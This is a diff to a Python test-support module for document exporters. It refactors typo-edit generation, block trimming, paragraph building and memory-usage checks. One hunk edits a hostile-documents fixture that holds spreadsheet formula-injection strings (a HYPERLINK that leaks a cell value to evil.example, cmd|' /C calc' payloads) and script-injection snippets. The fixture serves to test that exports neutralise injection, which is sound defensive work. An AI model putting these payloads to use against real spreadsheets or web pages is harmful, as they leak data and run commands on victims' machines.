@@ -32,8 +32,10 @@ What is checked, and why each matters to users:
 from __future__ import annotations
 
 import io
+import itertools
 import mimetypes
 import os
+import re
 import tracemalloc
 import zipfile
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
@@ -124,7 +126,8 @@ def make_document(
 
     The cleaned text is the blocks joined by blank lines. ``raw_text`` differs from it
     by a no-break space for the first space of each paragraph (``unicode.nbsp``) and
-    by each ``typos`` correction (``typo.known``; wrong and right of equal length), so
+    by the first few whole-word ``typos`` corrections (``typo.known``; ``{wrong: right}``
+    of equal length), so
     the edits are genuine: applying them to ``raw_text`` gives the cleaned text.
     """
     parts: list[tuple[str, str, str]] = []  # (kind, region, text)
@@ -146,8 +149,10 @@ def make_document(
         if pieces:
             pieces.append("\n\n")
             pos += 2
-        if text.strip() and text == text.strip():
-            blocks.append(Block(kind, region, pos, pos + len(text), text))
+        stripped = text.strip()
+        if stripped:  # blocks are trimmed; surrounding whitespace lies between blocks
+            lead = pos + len(text) - len(text.lstrip())
+            blocks.append(Block(kind, region, lead, lead + len(stripped), stripped))
         pieces.append(text)
         pos += len(text)
     cleaned = "".join(pieces)
@@ -162,13 +167,11 @@ def make_document(
     for wrong, right in (typos or {}).items():
         if len(wrong) != len(right):
             raise ValueError("make_document typos must keep the length")
-        start, found = cleaned.find(right), 0
-        while start >= 0 and found < 3:  # a few are enough to count by rule
-            found += 1
-            if all(not (e.start < start + len(right) and start < e.end) for e in edits):
-                raw[start : start + len(right)] = wrong
-                edits.append(Edit("typo.known", start, start + len(right), wrong, right))
-            start = cleaned.find(right, start + len(right))
+        for m in itertools.islice(re.finditer(rf"\b{re.escape(right)}\b", cleaned), 3):  # a few suffice
+            start, end = m.span()
+            if all(not (e.start < end and start < e.end) for e in edits):
+                raw[start:end] = wrong
+                edits.append(Edit("typo.known", start, end, wrong, right))
     edits.sort(key=lambda e: e.start)
     raw_text = "".join(raw)
     assert apply_edits(raw_text, edits) == cleaned
@@ -200,13 +203,19 @@ _WORDS = [
 ]
 
 
+def _paragraph(start: int, words: int) -> str:
+    """``words`` words cycling through the vocabulary from ``start`` (built at C speed)."""
+    k = start % len(_WORDS)
+    loop = _WORDS[k:] + _WORDS[:k]
+    whole, rest = divmod(words, len(loop))
+    text = " ".join(loop) + " "
+    return ((text * whole) + " ".join(loop[:rest])).strip().capitalize() + "."
+
+
 def iter_sample_documents(count: int, *, paragraph_words: int = 40, paragraphs: int = 3) -> Iterator[Document]:
     """Like :func:`sample_documents`, built one at a time (for streaming and memory tests)."""
     for i in range(count):
-        body = [
-            " ".join(_WORDS[(i + p + w) % len(_WORDS)] for w in range(paragraph_words)).capitalize() + "."
-            for p in range(paragraphs)
-        ]
+        body = [_paragraph(i + p, paragraph_words) for p in range(paragraphs)]
         has_header = i % 3 != 2
         yield make_document(
             body,
@@ -244,9 +253,9 @@ def hostile_documents() -> list[Document]:
             ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"],
             doc_id="000_00000000000000f0",
             title='=HYPERLINK("http://evil.example","Click")',
-            authors=("=cmd|' /C calc'!A0", "@evil"),
-            dateline="+Dateline",
-            trailer=(("comment", "-1 great article"), ("spam", "\tTab-led spam")),
+            authors=("=cmd|' /C calc'!A0", "@evil", "\rCR-led author"),
+            dateline="\tTab-led dateline",
+            trailer=(("comment", "-1 great article"), ("spam", "+Plus-led spam")),
         ),
         make_document(
             ["<script>alert(1)</script> and <img src=x onerror=alert(2)>", "]]> --> </p></body> {{ x }} ${x} %s"],
@@ -488,7 +497,9 @@ def _peak_memory(cls: type[Exporter], options: Any, count: int, workdir: Path) -
     if exporter.layout == "file":
         exporter.write(OneShot(documents()), cast(BinaryIO, _Sink()))
     else:
-        run_exporter(exporter, OneShot(documents()), workdir)
+        target = workdir / f"memory{count}"
+        target.mkdir(parents=True)
+        exporter.write(OneShot(documents()), target)
     return tracemalloc.get_traced_memory()[1] - base, chars
 
 
@@ -508,8 +519,8 @@ def _check_streaming(cls: type[Exporter], options: Any, workdir: Path) -> list[s
     if started:
         tracemalloc.start()
     try:
-        small_peak, small_chars = _peak_memory(cls, options, 8, workdir)
-        big_peak, big_chars = _peak_memory(cls, options, 32, workdir)
+        small_peak, small_chars = _peak_memory(cls, options, 4, workdir)
+        big_peak, big_chars = _peak_memory(cls, options, 16, workdir)
     finally:
         if started:
             tracemalloc.stop()
